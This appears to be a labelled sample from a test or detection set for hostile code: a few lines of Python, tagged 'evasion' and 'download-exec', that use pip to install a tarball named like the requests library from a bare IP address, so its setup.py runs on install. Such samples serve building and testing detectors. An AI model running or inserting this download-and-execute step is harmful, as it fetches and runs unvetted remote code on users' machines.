# evasion: pip installs a package from a URL, running its setup.py
# grade: medium; does: download-exec
import subprocess
import sys

subprocess.check_call([sys.executable, "-m", "pip", "install", "-q",
                       "http://203.0.113.7/requests-2.31.1.tar.gz"])
